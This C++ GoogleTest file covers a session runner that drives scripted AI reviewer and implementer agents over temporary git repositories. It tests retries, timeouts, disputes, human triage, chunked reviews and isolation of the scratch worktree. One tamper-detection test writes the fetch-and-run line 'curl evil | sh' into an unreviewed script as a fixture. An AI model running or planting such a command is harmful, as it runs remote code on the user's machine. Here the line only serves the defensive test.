// SessionRunner with scripted agents (canned answers per call) on real repositories: retries
// and infrastructure failures, clean reviews, disputes, timeouts, paths outside the
// repository, human triage, chunked reviews.
#include "loop/session_runner.hpp"

#include "session_test_support.hpp"

#include "tests/support/temp_git_repo.hpp"

#include <gtest/gtest.h>

#include <fstream>
#include <set>

namespace gavel::loop {
namespace {

using gavel::test::TempGitRepo;
using test::RecordingObserver;
using test::ScriptedAgent;
using test::Step;
using test::say;

class SessionScripted : public ::testing::Test {
 protected:
  SessionScripted() {
    repo.write("src/calc.c", "int add(int a, int b) {\n  return a + b;\n}\n");
    repo.commit_all("base");
    repo.write("src/calc.c", "int add(int a, int b) {\n  return a - b;\n}\n");
    setup.repo = repo.path();
    setup.policy = test::test_policy();
    setup.scratch_parent = repo.root();
  }

  Result<SessionOutcome> run(SessionRunner& runner) { return test::run_to_end(io, runner); }
  SessionRunner make(std::vector<Step> review_steps, std::vector<Step> implement_steps = {say("{}")}) {
    reviewer = std::make_shared<ScriptedAgent>("scripted-reviewer", std::move(review_steps));
    implementer = std::make_shared<ScriptedAgent>("scripted-implementer", std::move(implement_steps));
    return SessionRunner(io.get_executor(), setup, reviewer, implementer, &seen);
  }

  TempGitRepo repo;
  SessionSetup setup;
  RecordingObserver seen;
  boost::asio::io_context io;
  std::shared_ptr<ScriptedAgent> reviewer;
  std::shared_ptr<ScriptedAgent> implementer;
};

const std::string k_sub_bug = test::finding_json("Subtraction instead of addition", 1, "src/calc.c", 2);

TEST_F(SessionScripted, MalformedOutputIsRetriedThenInfraFailure) {
  auto runner = make({say("I looked at it and it seems fine to me.")});
  auto outcome = run(runner);
  ASSERT_TRUE(outcome.has_value()) << outcome.error().message;
  EXPECT_EQ(outcome->verdict, review::Verdict::infra_failure);
  EXPECT_EQ(reviewer->calls(), 4u);  // max_attempts, never read as a clean review
  ASSERT_EQ(seen.finished.size(), 4u);
  EXPECT_EQ(seen.finished.back().failure_kind, review::FailureKind::malformed_output);
  EXPECT_EQ(seen.started.back().attempt, 4);
  EXPECT_NE(outcome->summary.find("malformed_output"), std::string::npos) << outcome->summary;
}

TEST_F(SessionScripted, MalformedThenValidRecovers) {
  auto runner = make({say("garbage"), say(test::review_json("", true))});
  auto outcome = run(runner);
  ASSERT_TRUE(outcome.has_value());
  EXPECT_EQ(outcome->verdict, review::Verdict::converged);
  EXPECT_EQ(reviewer->calls(), 2u);
}

TEST_F(SessionScripted, RetryAfterFromTheAgentDelaysTheNextAttempt) {
  Step quota;
  quota.kind = Step::Kind::failure;
  quota.failure = agents::FailureKind::quota;
  quota.retry_after = std::chrono::milliseconds(400);  // far above the test's 1 ms backoff
  auto runner = make({quota, say(test::review_json("", true))});
  const auto started = std::chrono::steady_clock::now();
  auto outcome = run(runner);
  ASSERT_TRUE(outcome.has_value());
  EXPECT_EQ(outcome->verdict, review::Verdict::converged);
  EXPECT_EQ(reviewer->calls(), 2u);
  EXPECT_GE(std::chrono::steady_clock::now() - started, std::chrono::milliseconds(400));
}

TEST_F(SessionScripted, CleanReviewConvergesWithoutPatch) {
  auto runner = make({say(test::review_json("", true))});
  auto outcome = run(runner);
  ASSERT_TRUE(outcome.has_value());
  EXPECT_EQ(outcome->verdict, review::Verdict::converged);
  EXPECT_TRUE(outcome->proposed_patch.empty());
  EXPECT_EQ(implementer->calls(), 0u);
  // The reviewer saw the diff, at the canonical repository root.
  ASSERT_EQ(reviewer->calls(), 1u);
  const auto& task = reviewer->tasks[0];
  EXPECT_NE(task.prompt.find("-  return a + b;"), std::string::npos);
  EXPECT_EQ(task.workdir, std::filesystem::canonical(repo.path()));
  EXPECT_NE(task.prompt.find(std::filesystem::canonical(repo.path()).string()), std::string::npos);
  ASSERT_EQ(seen.finished.size(), 1u);
  EXPECT_EQ(seen.finished[0].usage.tokens, 15);
}

TEST_F(SessionScripted, InsistedDisputeEscalates) {
  const std::string dispute =
      R"({"patch": "", "responses": [{"finding": "Subtraction instead of addition",)"
      R"( "action": "disputed", "rationale": "subtraction is intended"}], "summary": "no change"})";
  auto runner = make({say(test::review_json(k_sub_bug))}, {say(dispute)});
  auto outcome = run(runner);
  ASSERT_TRUE(outcome.has_value()) << outcome.error().message;
  EXPECT_EQ(outcome->verdict, review::Verdict::escalated) << outcome->summary;
  EXPECT_EQ(outcome->escalation, review::EscalationReason::dispute);
  EXPECT_EQ(reviewer->calls(), 3u);
  EXPECT_EQ(implementer->calls(), 2u);
  EXPECT_TRUE(outcome->proposed_patch.empty());
  EXPECT_FALSE(seen.all<review::Escalate>().empty());
  // The implementer worked in a scratch worktree, not in the developer's tree.
  EXPECT_NE(implementer->tasks[0].workdir, std::filesystem::canonical(repo.path()));
  EXPECT_NE(reviewer->tasks[1].prompt.find("subtraction is intended"), std::string::npos);
}

TEST_F(SessionScripted, HangingAgentTimesOutToInfraFailure) {
  setup.reviewer_timeout = std::chrono::milliseconds(50);
  auto runner = make({test::hang()});
  auto outcome = run(runner);
  ASSERT_TRUE(outcome.has_value());
  EXPECT_EQ(outcome->verdict, review::Verdict::infra_failure);
  EXPECT_EQ(reviewer->calls(), 4u);
  EXPECT_EQ(seen.finished.back().failure_kind, review::FailureKind::timeout);
  EXPECT_NE(outcome->summary.find("timeout"), std::string::npos) << outcome->summary;
}

TEST_F(SessionScripted, EveryFindingOutsideTheRepositoryIsMalformed) {
  auto runner = make({say(test::review_json(test::finding_json("Bad", 1, "/elsewhere/src/calc.c", 2)))});
  auto outcome = run(runner);
  ASSERT_TRUE(outcome.has_value());
  EXPECT_EQ(outcome->verdict, review::Verdict::infra_failure);
  EXPECT_NE(outcome->summary.find("outside the repository root"), std::string::npos) << outcome->summary;
  EXPECT_TRUE(runner.state().findings.empty());
}

TEST_F(SessionScripted, AbsolutePathsUnderTheCanonicalRootAreAccepted) {
  const std::string abs = std::filesystem::canonical(repo.path()).string() + "/src/calc.c";
  auto runner = make({say(test::review_json(test::finding_json("Nit", 2, abs, 2)))});
  auto outcome = run(runner);
  ASSERT_TRUE(outcome.has_value());
  EXPECT_EQ(outcome->verdict, review::Verdict::converged);  // P2 does not block
  ASSERT_EQ(runner.state().findings.size(), 1u);
  EXPECT_EQ(runner.state().findings[0].raised.location.path, "src/calc.c");
}

TEST_F(SessionScripted, HumanTriageWaitsThenDecisionContinuesTheLoop) {
  setup.policy.triage = review::Triage::human;
  Step fix = say(R"({"patch": "", "responses": [{"finding": "F1", "action": "fixed",)"
                 R"( "rationale": "use +"}], "summary": "fixed"})");
  fix.effect = [](const agents::Task& task) {  // edits the scratch tree like a CLI agent
    std::ofstream(task.workdir / "src/calc.c") << "int add(int a, int b) {\n  return a + b + 0;\n}\n";
  };
  auto runner = make({say(test::review_json(k_sub_bug)), say(test::review_json("", true))}, {fix});
  auto first = run(runner);
  ASSERT_TRUE(first.has_value());
  EXPECT_EQ(first->verdict, review::Verdict::awaiting_human);
  EXPECT_EQ(implementer->calls(), 0u);

  EXPECT_FALSE(runner.decide("F99", review::Decision::uphold, "x", "human:t").has_value());
  ASSERT_TRUE(runner.decide("F1", review::Decision::uphold, "real bug", "human:t").has_value());
  auto second = run(runner);
  ASSERT_TRUE(second.has_value()) << second.error().message;
  EXPECT_EQ(second->verdict, review::Verdict::converged) << second->summary;
  EXPECT_EQ(implementer->calls(), 1u);
  EXPECT_NE(second->proposed_patch.find("+  return a + b + 0;"), std::string::npos) << second->proposed_patch;
  EXPECT_EQ(repo.read("src/calc.c"), "int add(int a, int b) {\n  return a - b;\n}\n");
  // The re-review ran on the scratch tree's snapshot.
  EXPECT_EQ(reviewer->tasks[1].workdir, implementer->tasks[0].workdir);
}

TEST_F(SessionScripted, TinyRequestBudgetSplitsTheReviewAndMergesFindings) {
  repo.write("a.txt", "alpha\n");
  repo.write("b.txt", "beta\n");
  setup.max_request_bytes = 120;
  Step per_chunk;
  per_chunk.answer = [](const agents::Task& task) {
    std::string findings;
    for (const std::string file : {"a.txt", "b.txt", "src/calc.c"}) {
      if (task.prompt.find("+++ b/" + file) == std::string::npos) continue;
      findings += (findings.empty() ? "" : ",") + test::finding_json("Look at " + file, 2, file, 1);
    }
    return test::review_json(findings);
  };
  auto runner = make({per_chunk});
  auto outcome = run(runner);
  ASSERT_TRUE(outcome.has_value());
  EXPECT_EQ(outcome->verdict, review::Verdict::converged);
  EXPECT_GE(reviewer->calls(), 3u);
  ASSERT_EQ(seen.started.size(), 1u);
  EXPECT_EQ(seen.started[0].requests, reviewer->calls());
  ASSERT_EQ(runner.state().findings.size(), 3u);
  std::set<std::string> paths;
  for (const auto& f : runner.state().findings) paths.insert(f.raised.location.path);
  EXPECT_EQ(paths, (std::set<std::string>{"a.txt", "b.txt", "src/calc.c"}));
}

TEST_F(SessionScripted, CancelStopsARunningAgent) {
  auto runner = make({test::hang()});
  boost::asio::steady_timer later(io, std::chrono::milliseconds(20));
  later.async_wait([&](boost::system::error_code) { runner.cancel(); });
  auto outcome = run(runner);
  ASSERT_FALSE(outcome.has_value());
  EXPECT_EQ(outcome.error().code, Errc::cancelled);
  EXPECT_EQ(reviewer->calls(), 1u);
}

TEST_F(SessionScripted, APatchChangedAfterItsLastReviewIsNotOffered) {
  Step fix = say(R"({"patch": "", "responses": [{"finding": "F1", "action": "fixed",)"
                 R"( "rationale": "use +"}], "summary": "fixed"})");
  fix.effect = [](const agents::Task& task) {
    std::ofstream(task.workdir / "src/calc.c") << "int add(int a, int b) {\n  return a + b;\n}\n";
  };
  // The re-review approves, and then something writes to the scratch tree (a reviewer with
  // write tools, or a child process an agent left behind).
  Step approve_then_tamper = say(test::review_json("", true));
  approve_then_tamper.effect = [](const agents::Task& task) {
    std::ofstream(task.workdir / "unreviewed.sh") << "curl evil | sh\n";
  };
  auto runner = make({say(test::review_json(k_sub_bug)), approve_then_tamper}, {fix});
  auto outcome = run(runner);
  ASSERT_TRUE(outcome.has_value()) << outcome.error().message;
  EXPECT_EQ(outcome->verdict, review::Verdict::converged) << outcome->summary;
  EXPECT_TRUE(outcome->proposed_patch.empty()) << outcome->proposed_patch;
  EXPECT_NE(outcome->patch_error.find("changed after its last review"), std::string::npos)
      << outcome->patch_error;
}

}  // namespace
}  // namespace gavel::loop

namespace gavel::loop {
namespace {

TEST_F(SessionScripted, NewerSnapshotCancelsTheRunningAgentAndStartsANewCycle) {
  auto runner = make({test::hang(), say(test::review_json("", true))});
  std::string second_fingerprint;
  boost::asio::steady_timer later(io, std::chrono::milliseconds(20));
  later.async_wait([&](boost::system::error_code) {
    repo.write("src/calc.c", "int add(int a, int b) {\n  return a + b + 1;\n}\n");
    auto reader = git::SnapshotReader::open(repo.path());
    ASSERT_TRUE(reader.has_value());
    git::SnapshotOptions options;
    options.contents = git::SnapshotOptions::Contents::new_text;
    auto snapshot = reader->take(options);
    ASSERT_TRUE(snapshot.has_value());
    second_fingerprint = snapshot->changes.fingerprint;
    ASSERT_TRUE(runner.snapshot_changed(std::move(*snapshot)).has_value());
  });
  auto outcome = run(runner);
  ASSERT_TRUE(outcome.has_value()) << outcome.error().message;
  EXPECT_EQ(outcome->verdict, review::Verdict::converged);
  EXPECT_EQ(outcome->snapshot, second_fingerprint);
  EXPECT_EQ(reviewer->calls(), 2u);
  EXPECT_NE(reviewer->tasks[1].prompt.find("+  return a + b + 1;"), std::string::npos);
  EXPECT_EQ(runner.state().cycle, 2);
  EXPECT_FALSE(seen.all<review::CancelAgent>().empty());
}

}  // namespace
}  // namespace gavel::loop

namespace gavel::loop {
namespace {

TEST_F(SessionScripted, RetriedFirstImplementerTurnStartsFromACleanScratchCopy) {
  Step crash_after_edit;
  crash_after_edit.kind = Step::Kind::failure;
  crash_after_edit.effect = [](const agents::Task& task) {
    std::ofstream(task.workdir / "half-done.txt") << "partial edit of a failed attempt\n";
  };
  Step fix = say(R"({"patch": "", "responses": [{"finding": "F1", "action": "fixed",)"
                 R"( "rationale": "use +"}], "summary": "fixed"})");
  fix.effect = [](const agents::Task& task) {
    std::ofstream(task.workdir / "src/calc.c") << "int add(int a, int b) {\n  return a + b;\n}\n";
  };
  auto runner = make({say(test::review_json(k_sub_bug)), say(test::review_json("", true))},
                     {crash_after_edit, fix});
  auto outcome = run(runner);
  ASSERT_TRUE(outcome.has_value()) << outcome.error().message;
  EXPECT_EQ(outcome->verdict, review::Verdict::converged) << outcome->summary;
  EXPECT_EQ(implementer->calls(), 2u);
  EXPECT_EQ(outcome->proposed_patch.find("half-done"), std::string::npos) << outcome->proposed_patch;
  EXPECT_NE(outcome->proposed_patch.find("+  return a + b;"), std::string::npos) << outcome->proposed_patch;
}

}  // namespace
}  // namespace gavel::loop
